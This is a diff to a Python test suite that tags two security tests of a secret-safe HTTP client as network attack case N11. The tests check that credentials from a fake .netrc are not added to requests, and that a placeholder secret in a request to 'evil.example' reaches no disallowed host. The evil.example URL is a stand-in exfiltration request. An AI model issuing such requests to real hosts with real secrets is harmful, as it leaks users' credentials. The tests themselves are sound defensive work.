@@ -425,6 +425,7 @@ def test_a_certificate_for_another_name_is_refused(tls_site, names, authority):
     assert tls_site.seen == []
 
 
+@pytest.mark.attack("N11", "network")
 def test_n11_nothing_is_added_that_could_be_a_secret(client: SafeClient, site, monkeypatch, tmp_path):
     netrc = tmp_path / ".netrc"
     netrc.write_text("machine site.test login me password secret\n")
@@ -438,6 +439,7 @@ def test_n11_nothing_is_added_that_could_be_a_secret(client: SafeClient, site, m
     assert names == {"host", "connection", "user-agent", "accept", "accept-encoding"}
 
 
+@pytest.mark.attack("N11", "network")
 def test_n11_a_placeholder_reaches_no_host_that_is_not_allowed_in_url_header_or_body(client: SafeClient, site, names):
     for request in (
         FetchRequest(url="https://evil.example/?t=PLACEHOLDER"),
